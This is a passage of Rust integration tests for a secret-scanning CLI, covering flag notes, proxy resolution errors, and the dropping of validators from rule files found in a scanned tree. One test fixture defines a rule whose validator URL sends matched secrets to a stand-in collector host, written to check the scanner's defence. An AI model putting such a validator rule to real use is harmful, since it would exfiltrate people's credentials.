            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}");
        assert_eq!(
            String::from_utf8(out.stderr).unwrap(),
            format!(
                "scanner: error: {file} is {what}: only a json or jsonl report of scanner \
                 (`--format json` or `jsonl`) can be read back\n"
            )
        );
        assert_eq!(out.stdout, b"");
    }
}

/// `--only-valid` without `--validate` can show nothing (no offline
/// evidence is `valid`): a note says so and what to use, instead of an
/// empty report after "1 finding".
/// `--ca-cert` only serves the validation requests: without `--validate` it did nothing,
/// silently, to a user who thought the scan would check through their proxy.
#[test]
fn ca_cert_without_validate_says_it_does_nothing() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(951)));
    let out = scanner_without_proxy(&tree)
        .args(["scan", "--format", "json", "--ca-cert", "corp.pem", "a.env"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(
        stderr.lines().next(),
        Some("scanner: note: --ca-cert does nothing without --validate: no request is sent")
    );
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0]["validation"]["status"], "offline_valid");
}

#[test]
fn only_valid_without_validate_says_it_shows_nothing() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(950)));
    let note = "scanner: note: --only-valid (--min-validity valid) without --validate shows no \
                finding: only a provider's answer is `valid` (add --validate, or use \
                --min-validity offline_valid)";
    for flags in [&["--only-valid"][..], &["--min-validity", "valid"][..]] {
        let out = scanner_without_proxy(&tree)
            .args(["scan", "--format", "json"])
            .args(flags)
            .arg("a.env")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(out.stdout, b"[]\n");
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(stderr.lines().next(), Some(note), "{flags:?}");
    }
    // offline_valid is what the offline evidence can say: no note.
    let out = scanner_without_proxy(&tree)
        .args([
            "scan",
            "--format",
            "json",
            "--min-validity",
            "offline_valid",
            "a.env",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.starts_with("scanned 1 file (43 B)"), "{stderr}");
    let report: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report.len(), 1);
    assert_eq!(report[0]["validation"]["status"], "offline_valid");
}

/// A name that does not resolve is named in the error: here the proxy's
/// (a typo in HTTPS_PROXY), not only "failed to lookup address
/// information". The rest of the text is the system resolver's.
#[test]
fn a_name_that_does_not_resolve_is_named() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(960)));
    let out = scanner_without_proxy(&tree)
        .env("HTTPS_PROXY", "http://proxy.scanner-test.invalid:8080")
        .args(["scan", "--validate", "--format", "jsonl", "a.env"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let f: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(f["validation"]["status"], "unknown");
    assert_eq!(f["validation"]["reason"], "no answer");
    let error = f["validation"]["error"].as_str().unwrap();
    assert!(
        error.starts_with("io: proxy.scanner-test.invalid: "),
        "{error}"
    );
}

/// A rule file that the scanned tree brings (a discovered `.scanner.toml`'s `extra_rules`, a
/// discovered `.gitleaks.toml`) may choose what is reported, not where secrets are sent:
/// whoever wrote the tree wrote its validators, and `--validate` sent them every secret their
/// rules matched, an untracked `.env` included. Those validators are dropped, with a note;
/// named by the user (`--config`, `$GITLEAKS_CONFIG`), they are used.
#[test]
fn a_rule_file_found_in_the_scanned_tree_is_sent_no_secret() {
    let tree = Tree::new();
    let rule = "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{24})\\b'''\n\
                keywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  \
                url = \"https://collector.example.com/?t={{secret}}\"\n";
    tree.write("leak.toml", rule);
    tree.write("app.env", "T=inh_q8w3k2m9x7c4v1b6n5z0p2r8\n");
    // The proxy refuses: a request that is made says so in its answer.
    let scan = |extra: &[&str], env: &[(&str, &str)]| {
        let out = scanner_without_proxy(&tree)
            .env("HTTPS_PROXY", "http://127.0.0.1:1")
            .envs(env.iter().copied())
            .args(["scan", "--validate", "--format", "jsonl"])
            .args(extra)
            .arg("app.env")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        let found: Vec<serde_json::Value> = String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0]["rule_id"], "inhouse");
        let status = found[0]["validation"]["status"]
            .as_str()
            .unwrap()
            .to_owned();
        (status, String::from_utf8(out.stderr).unwrap())
    };
    let dropped = "validators of 1 rule not used (inhouse): a rule file found in the scanned \
                   tree may not choose where secrets are sent; name it with --rules, \
                   --extra-rules or --config to use them";
    let noted = |stderr: &str, file: &str| {
        stderr
            .lines()
            .any(|l| l.starts_with("scanner: note: ") && l.ends_with(&format!("{file}: {dropped}")))
    };

    tree.write(".scanner.toml", "extra_rules = [\"leak.toml\"]\n");
    let (status, stderr) = scan(&[], &[]);
    assert_eq!(status, "not_checked");
    assert!(noted(&stderr, "leak.toml"), "{stderr}");
    let (status, stderr) = scan(&["--config", ".scanner.toml"], &[]);
    assert_eq!(status, "unknown");
    assert!(!stderr.contains("not used"), "{stderr}");

    std::fs::remove_file(tree.path().join(".scanner.toml")).unwrap();
    tree.write(".gitleaks.toml", rule);
    let (status, stderr) = scan(&[], &[]);
    assert_eq!(status, "not_checked");
    assert!(noted(&stderr, ".gitleaks.toml"), "{stderr}");
    let (status, _) = scan(&[], &[("GITLEAKS_CONFIG", ".gitleaks.toml")]);
    assert_eq!(status, "unknown");
}
